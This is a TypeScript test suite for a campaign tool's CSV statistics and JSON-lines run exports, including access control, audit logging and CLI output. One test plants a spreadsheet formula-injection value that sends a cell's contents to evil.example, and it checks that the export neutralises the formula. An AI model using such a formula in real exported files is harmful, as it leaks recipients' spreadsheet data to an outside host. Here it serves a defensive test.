import { once } from 'node:events'
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { get as httpGet } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { sql } from 'drizzle-orm'
import type { Hono } from 'hono'
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import type { ExportedRun } from '../../src/api/views/exported-run-view.ts'
import { createHttpApp } from '../../src/bootstrap/http/http-app.ts'
import { type Listening, listen } from '../../src/bootstrap/http/server.ts'
import type { Services } from '../../src/bootstrap/services.ts'
import type { Statistics } from '../../src/campaign/statistics/report.ts'
import { STATISTICS_TABLES } from '../../src/campaign/statistics/statistics-tables.ts'
import { runCli } from '../../src/cli/run-cli.ts'
import { DAY_MS } from '../../src/shared/time-units.ts'
import type { Store } from '../../src/store/db.ts'
import { auditLog, deliveries, goals, runs } from '../../src/store/schema.ts'
import { createApiTokenStore } from '../../src/store/users/api-token-store.ts'
import { digest } from '../attack/stored-hashes.ts'
import { addRun, SHOP, T0, wayOf } from '../fixtures/shop-runs.ts'
import { signIn } from '../harness/console-session.ts'
import { createOfflineServices, NOWHERE } from '../harness/offline-services.ts'
import { readCsv } from '../harness/read-csv.ts'
import { WAIT_TIMEOUT_MS } from '../harness/timeouts.ts'
import { waitFor } from '../harness/wait-for.ts'

const ADMIN_TOKEN = `test-token-${NOWHERE}`
const OPERATOR = 'fnt_test-exports-operator'
const VIEWER = 'fnt_test-exports-viewer'
const PAGE = 500
/** Part of the statement that reads a page of runs. */
const PAGE_STATEMENT = `r.state->'steps' AS steps`

let services: Services
let store: Store
let web: Hono
let pages = 0
/** Called when a page is read. */
let onPage = () => {}
/** The number of the page that cannot be read; 0: none. */
let brokenPage = 0
beforeAll(async () => {
  const made = await createOfflineServices({
    // A day after the entries.
    now: () => T0 + DAY_MS,
    onStatement: (statement) => {
      if (!statement.includes(PAGE_STATEMENT)) return
      pages += 1
      onPage()
      if (pages === brokenPage) throw new Error('the store is away')
    },
  })
  services = made.services
  store = made.store
  const links = { simulatorUrl: null, temporalUiUrl: null, namespace: 'default' }
  web = createHttpApp(services, { adminToken: ADMIN_TOKEN, links: () => links })
  await services.campaigns.publish(JSON.stringify(SHOP), SHOP, [])
  const tokens = createApiTokenStore(store.db, Date.now)
  for (const [secret, role] of [
    [OPERATOR, 'operator'],
    [VIEWER, 'viewer'],
  ] as const)
    await tokens.add({
      ...{ id: `tok_${role}`, name: role, role, hash: digest(secret), createdBy: 'test', expiresAt: null },
    })
})
afterAll(async () => {
  await services.temporal.close()
  await store.close()
})
beforeEach(async () => {
  for (const table of [runs, deliveries, goals, auditLog]) await store.db.delete(table)
  pages = 0
  brokenPage = 0
  onPage = () => {}
})

const get = (path: string, token = VIEWER, method = 'GET') =>
  web.request(`/api/campaigns/${path}`, { method, headers: { authorization: `Bearer ${token}` } })
/** Headers of a script of the console. */
async function signedIn(): Promise<Record<string, string>> {
  const cookie = await signIn(web, { token: ADMIN_TOKEN })
  if (!cookie) throw new Error('the console refuses the admin token')
  return { cookie, 'x-nurture-console': '1' }
}
const linesOf = (text: string): ExportedRun[] =>
  text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line))
const auditRows = () => store.db.select().from(auditLog)

/** Copies of a run, without a statement for each. */
async function addMany(count: number): Promise<void> {
  await addRun(store.db, wayOf('first', { openId: 'oFirst-0123456789' }))
  const columns =
    'app_id, campaign, version, status, outcome, entry, plan, state, revision, started_at, updated_at, entry_day'
  await store.db.execute(
    sql.raw(`INSERT INTO runs (run_key, open_id, created_at, ${columns}, tally, tally_revision)
      SELECT 'copy-' || n, 'oCopy-' || n, created_at + n / 3, ${columns}, tally, tally_revision
      FROM runs, generate_series(1, ${count - 1}) n`),
  )
}

/** Runs of many ways. */
async function addShop(): Promise<void> {
  const { db } = store
  await addRun(db, wayOf('k1', { scene: 'expo-a*', repliedAfterMs: 90_000, goal: { value: 99.5 } }))
  await addRun(db, wayOf('k2', { took: -1, states: ['sent', 'sent', 'skipped', 'unknown', 'pending'] }))
  await addRun(db, wayOf('k3', { day: '2026-12-01', outcome: 'unsubscribed', goal: { value: -5 } }))
  await addRun(
    db,
    wayOf('k4', { outcome: null, states: ['sent', 'pending', 'pending', 'pending', 'pending'] }),
  )
  const failed = { state: 'skipped', reason: 'content', errcode: 45002 }
  await db.execute(sql`UPDATE ${runs} SET clicks = ${JSON.stringify([{ step: 'hello', link: '手册', at: T0 }])}::jsonb,
    tally = jsonb_set(tally, '{steps,0}', '["hello","due","held","failed:45002"]'::jsonb),
    state = jsonb_set(state, '{steps,0}', state->'steps'->0 || ${JSON.stringify(failed)}::jsonb) WHERE run_key = 'k2'`)
}

describe('the tables of the statistics as CSV', () => {
  const figures = async (query = '') => (await (await get(`shop/statistics?${query}`)).json()) as Statistics
  const csv = async (query: string) => {
    const answer = await get(`shop/statistics.csv?${query}`)
    expect(answer.status).toBe(200)
    return readCsv(Buffer.from(await answer.arrayBuffer()).toString('utf8'))
  }
  /** The cells of a row by the text of their header. */
  const byHeader = ([header = [], ...rows]: string[][]) =>
    rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]])))
  const numbers = (counts: object, names: Record<string, string> = {}) =>
    Object.fromEntries(
      Object.entries(counts).map(([name, n]) => [names[name] ?? name, n === null ? '' : String(n)]),
    )
  const named = (column: string, counts: Record<string, number>, all: readonly string[]) => ({
    [column]: String(Object.values(counts).reduce((sum, n) => sum + n, 0)),
    ...Object.fromEntries(all.map((name) => [`${column}: ${name}`, String(counts[name] ?? 0)])),
  })

  it('have the figures of the API, each in a cell', async () => {
    await addShop()
    const { runs: of, steps, forks, tests, days, scenes } = await figures('appId=wxA')
    const { ended, ...counts } = of
    expect(of).toMatchObject({ entered: 4, value: 94.5, ended: { completed: 2, unsubscribed: 1 } })
    expect(byHeader(await csv('table=runs&appId=wxA'))).toEqual([
      { ...numbers(counts), ...named('ended', ended, ['completed', 'unsubscribed']) },
    ])
    const AFTER = {
      repliedAfter: 'replied after',
      unfollowedAfter: 'unfollowed after',
      goalAfter: 'goal after',
    }
    const rows = steps.map(({ skipped, failed, clicked, ...rest }) => ({
      ...numbers(rest, AFTER),
      ...named('skipped', skipped, ['completed', 'condition']),
      ...named('failed', failed, ['45002']),
      ...named('clicked', clicked, ['手册']),
    }))
    expect(rows[0]).toMatchObject({ step: 'hello', 'failed: 45002': '1', 'clicked: 手册': '1', held: '1' })
    expect(byHeader(await csv('appId=wxA'))).toEqual(rows)
    expect(byHeader(await csv('table=forks&appId=wxA'))).toEqual(
      forks.flatMap(({ fork, taken }) =>
        Object.entries(taken).map(([branch, n]) => ({ fork, branch, taken: String(n) })),
      ),
    )
    expect(byHeader(await csv('table=tests&appId=wxA'))).toEqual(
      tests.flatMap(({ fork, variants }) => variants.map((v) => ({ fork, ...numbers(v) }))),
    )
    expect(byHeader(await csv('table=days&appId=wxA'))).toEqual(days.map((d) => numbers(d)))
    expect(byHeader(await csv('table=scenes&appId=wxA'))).toEqual(scenes.map((s) => numbers(s)))
  })

  it('take every filter of the statistics', async () => {
    await addShop()
    for (const query of [
      'to=2026-11-30',
      'from=2026-12-01',
      'scene=expo-a*',
      'variant=test=else',
      'version=1',
      'version=2',
    ]) {
      const found = await figures(query)
      expect([query, byHeader(await csv(`table=runs&${query}`))[0]?.entered]).toEqual([
        query,
        String(found.runs.entered),
      ])
      expect([query, (await csv(query)).length - 1]).toEqual([query, found.steps.length])
    }
  })

  it('are files for a spreadsheet', async () => {
    await addShop()
    const answer = await get('shop/statistics.csv?table=days')
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="shop-days.csv"',
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
    })
    const [header] = await csv('lang=zh')
    expect(header?.slice(0, 6)).toEqual(['步骤', '到时', '暂缓', '已发送', '结果未知', '已跳过'])
    for (const table of STATISTICS_TABLES)
      for (const lang of ['en', 'zh']) {
        const texts = (await csv(`table=${table}&lang=${lang}`))[0] ?? []
        expect([table, new Set(texts).size]).toEqual([table, texts.length])
        expect([table, lang, texts.some((text) => text.trim() === '')]).toEqual([table, lang, false])
      }
  })

  it('execute no formula that a campaign file has', async () => {
    const formula = `=HYPERLINK("http://evil.example/?"&A1,"x")`
    await addRun(store.db, wayOf('k1', { scene: formula }))
    const answer = await get('shop/statistics.csv?table=scenes&from=2026-11-01')
    expect(await answer.text()).toContain(`\r\n"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",1,`)
  })

  it.each([
    ['shop/statistics.csv?table=nothing', 422],
    ['shop/statistics.csv?lang=fr', 422],
    ['shop/statistics.csv?from=2026-12-02&to=2026-12-01', 422],
    ['shop/statistics.csv?tables=days', 422],
    ['nothing/statistics.csv', 404],
    ['shop/runs.jsonl?openIds=yes', 422],
    ['shop/runs.jsonl?from=2026-12-02&to=2026-12-01', 422],
    ['shop/runs.jsonl?version=0', 422],
    ['shop/runs.jsonl?limit=5', 422],
    ['nothing/runs.jsonl', 404],
  ])('and the runs: %s gets %i', async (path, status) => {
    expect((await get(path)).status).toBe(status)
  })
})

describe('the runs as JSON lines', () => {
  it('are read page by page, as the client takes them', async () => {
    await addMany(3 * PAGE + 7)
    const answer = await get('shop/runs.jsonl')
    expect(answer.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8')
    const reader = answer.body?.getReader()
    expect(pages).toBe(0)
    const found: ExportedRun[] = []
    for (let page = 1; ; page++) {
      const part = await reader?.read()
      if (part?.done !== false) break
      const lines = linesOf(Buffer.from(part.value).toString('utf8'))
      expect(lines.length).toBeLessThanOrEqual(PAGE)
      expect(pages).toBe(page)
      found.push(...lines)
    }
    expect(new Set(found.map(({ runKey }) => runKey)).size).toBe(3 * PAGE + 7)
    expect(pages).toBe(4)
  })

  it('are empty for a campaign without runs', async () => {
    const answer = await get('shop/runs.jsonl')
    expect([answer.status, await answer.text()]).toEqual([200, ''])
  })

  it.each([
    ['/api', 'takes no more'],
    ['/api', 'waits for a page'],
    ['/console/api', 'takes no more'],
    ['/console/api', 'waits for a page'],
  ])('are no longer read when the client of %s goes away while it %s', async (base, what) => {
    await addMany(20 * PAGE)
    const server = await listen(web, 0, '127.0.0.1')
    try {
      const headers = base === '/api' ? { authorization: `Bearer ${OPERATOR}` } : await signedIn()
      await store.db.delete(auditLog)
      const request = httpGet(`${server.url}${base}/campaigns/shop/runs.jsonl?openIds=true`, { headers })
      request.on('error', () => {})
      if (what === 'waits for a page')
        onPage = () => {
          if (pages === 3) request.destroy()
        }
      const [incoming] = await once(request, 'response')
      incoming.on('error', () => {})
      if (what === 'takes no more') {
        await once(incoming, 'data', { signal: AbortSignal.timeout(WAIT_TIMEOUT_MS) })
        incoming.pause()
        request.destroy()
      } else incoming.resume()
      const [row] = await waitFor(auditRows, { until: ([found]) => isAmended(found?.details) })
      expect(row?.details).toEqual({
        runs: expect.any(Number),
        failed: 'the client has closed the connection',
      })
      const read = pages
      expect(read).toBeLessThan(20)
      // The store answers one statement after the other: pages of the first export would be read between those of the second.
      expect(linesOf(await (await get('shop/runs.jsonl')).text())).toHaveLength(20 * PAGE)
      expect(pages).toBe(read + 21)
    } finally {
      await server.close()
    }
  })

  it('end with a broken connection when a page cannot be read, and not like a whole', async () => {
    await addMany(3 * PAGE)
    brokenPage = 3
    const server = await listen(web, 0, '127.0.0.1')
    try {
      const answer = await fetch(`${server.url}/api/campaigns/shop/runs.jsonl?openIds=true`, {
        headers: { authorization: `Bearer ${OPERATOR}` },
      })
      expect(answer.status).toBe(200)
      await expect(answer.text()).rejects.toThrow()
      const [row] = await waitFor(auditRows, { until: ([found]) => isAmended(found?.details) })
      expect(row?.details).toEqual({ runs: 2 * PAGE, failed: 'a page could not be read' })
    } finally {
      await server.close()
    }
  })

  it('have no openId, and no row in the audit log, unless openIds are asked for', async () => {
    await addMany(3)
    for (const query of ['', '?openIds=false', '?from=2026-11-30&to=2026-11-30&version=1&appId=wxA']) {
      const text = await (await get(`shop/runs.jsonl${query}`)).text()
      expect(linesOf(text)).toHaveLength(3)
      expect(text).not.toMatch(/oFirst|oCopy|openId|copy-/)
    }
    expect(await auditRows()).toEqual([])
  })

  it('have openIds for an operator, and the audit log has who took how many', async () => {
    await addMany(PAGE + 3)
    const answer = await get('shop/runs.jsonl?openIds=true&version=1', OPERATOR)
    // Nothing was read yet.
    expect(await auditRows()).toMatchObject([{ details: { version: 1, outcome: 'unknown' } }])
    const lines = linesOf(await answer.text())
    expect(lines.map(({ openId }) => openId)).toContain('oCopy-1')
    expect(lines).toHaveLength(PAGE + 3)
    expect(await auditRows()).toMatchObject([
      {
        actor: 'tok_operator',
        action: 'campaign.export-open-ids',
        target: 'shop',
        details: { version: 1, runs: PAGE + 3 },
      },
    ])
    expect(JSON.stringify(await auditRows())).not.toContain('oCopy')
  })

  it('refuse openIds to a viewer, and write nothing', async () => {
    await addMany(3)
    for (const path of ['shop/runs.jsonl?openIds=true', 'nothing/runs.jsonl?openIds=true']) {
      const answer = await get(path, VIEWER)
      expect([answer.status, await answer.json()]).toEqual([
        403,
        { error: { code: 'forbidden', message: expect.stringContaining('the role operator') } },
      ])
    }
    expect([pages, await auditRows()]).toEqual([0, []])
  })

  it('export no openId when the audit log cannot be written', async () => {
    await addMany(3)
    await store.db.execute(sql`ALTER TABLE ${auditLog} RENAME TO audit_log_away`)
    const answer = await get('shop/runs.jsonl?openIds=true', OPERATOR)
    await store.db.execute(sql`ALTER TABLE audit_log_away RENAME TO ${auditLog}`)
    expect([answer.status, pages]).toEqual([500, 0])
    expect(await answer.text()).not.toContain('oFirst')
  })

  it('answer HEAD with the headers, and read and record nothing', async () => {
    await addMany(3)
    const answer = await get('shop/runs.jsonl?openIds=true', OPERATOR, 'HEAD')
    expect([answer.status, answer.headers.get('content-disposition'), await answer.text()]).toEqual([
      ...[200, 'attachment; filename="shop-runs.jsonl"', ''],
    ])
    expect([pages, await auditRows()]).toEqual([0, []])
  })

  const isAmended = (details: unknown) => details != null && !Object.hasOwn(details, 'outcome')
})

describe('nurture campaign', () => {
  const folder = mkdtempSync(join(tmpdir(), 'follower-nurture-exports-'))
  let server: Listening
  beforeAll(async () => {
    server = await listen(web, 0, '127.0.0.1')
  })
  afterAll(async () => {
    await server.close()
    vi.unstubAllEnvs()
    rmSync(folder, { recursive: true, force: true })
  })

  async function nurture(args: string[], token = VIEWER) {
    vi.stubEnv('NURTURE_TOKEN', token)
    const [out, err, written]: string[][] = [[], [], []]
    const code = await runCli(['campaign', ...args, '--url', server.url], {
      out: (text) => out?.push(text),
      err: (text) => err?.push(text),
      write: async (part) => void written?.push(part),
    })
    return { code, out: out?.join('\n'), err: err?.join('\n'), written: written?.join('') }
  }

  it('stats writes a table as CSV, to standard output or a file', async () => {
    await addShop()
    const expected = await (await get('shop/statistics.csv?table=days&lang=zh&version=1')).arrayBuffer()
    const text = Buffer.from(expected).toString('utf8')
    const args = [
      'stats',
      'shop',
      '--format',
      'csv',
      '--table',
      'days',
      '--lang',
      'zh',
      '--file-version',
      '1',
    ]
    expect(await nurture(args)).toEqual({ code: 0, out: '', err: '', written: text })
    const file = join(folder, 'days.csv')
    expect(await nurture([...args, '--out', file])).toEqual({ code: 0, out: file, err: '', written: '' })
    expect(readFileSync(file).equals(Buffer.from(expected))).toBe(true)
  })

  it('stats prints JSON with --format json, as with --json', async () => {
    await addShop()
    const [a, b] = [
      await nurture(['stats', 'shop', '--format', 'json']),
      await nurture(['stats', 'shop', '--json']),
    ]
    expect(JSON.parse(a.out ?? '')).toMatchObject({ steps: expect.any(Array) })
    expect(a).toEqual(b)
  })

  it('runs writes JSON lines, with openIds into a private file', async () => {
    await addMany(PAGE + 1)
    const printed = await nurture(['runs', 'shop', '--format', 'jsonl'])
    expect(printed).toMatchObject({ code: 0, out: '', err: '' })
    expect(linesOf(printed.written ?? '')).toHaveLength(PAGE + 1)
    const file = join(folder, 'runs.jsonl')
    writeFileSync(`${file}.part`, 'of an interrupted command')
    const saved = await nurture(['runs', 'shop', '--open-ids', '--out', file], OPERATOR)
    expect(saved).toEqual({ code: 0, out: `${file}: ${PAGE + 1} runs`, err: '', written: '' })
    expect(linesOf(readFileSync(file, 'utf8')).map(({ openId }) => openId)).toContain('oFirst-0123456789')
    expect(statSync(file).mode & 0o777).toBe(0o600)
    const json = await nurture(['runs', 'shop', '--from', '2026-12-01', '--out', file, '--force', '--json'])
    expect(JSON.parse(json.out ?? '')).toEqual({ file, runs: 0 })
  })

  it('replaces no file, and leaves none behind that is incomplete', async () => {
    await addMany(3 * PAGE)
    const file = join(folder, 'kept.jsonl')
    writeFileSync(file, 'kept')
    const taken = await nurture(['runs', 'shop', '--out', file])
    expect(taken).toMatchObject({ code: 1, err: expect.stringContaining('exists already') })
    expect(pages).toBe(0)
    brokenPage = 2
    const broken = await nurture(['runs', 'shop', '--out', file, '--force'])
    expect(broken).toMatchObject({ code: 1, err: expect.stringContaining('ended before it was complete') })
    expect(readFileSync(file, 'utf8')).toBe('kept')
    expect(readdirSync(folder).filter((name) => name.endsWith('.part'))).toEqual([])
    const away = await nurture(['runs', 'shop', '--out', join(folder, 'no', 'folder.jsonl')])
    expect(away).toMatchObject({ code: 1, err: expect.stringContaining('cannot be written (ENOENT)') })
  })

  it('shows the error of the API', async () => {
    await addMany(3)
    expect(await nurture(['runs', 'shop', '--open-ids'])).toMatchObject({
      code: 1,
      err: expect.stringContaining('the role operator'),
      written: '',
    })
    expect(await nurture(['stats', 'nothing', '--format', 'csv'])).toMatchObject({ code: 1, written: '' })
    expect(await nurture(['stats', 'shop', '--table', 'days'])).toMatchObject({
      code: 1,
      err: expect.stringContaining('--format csv'),
    })
  })
})
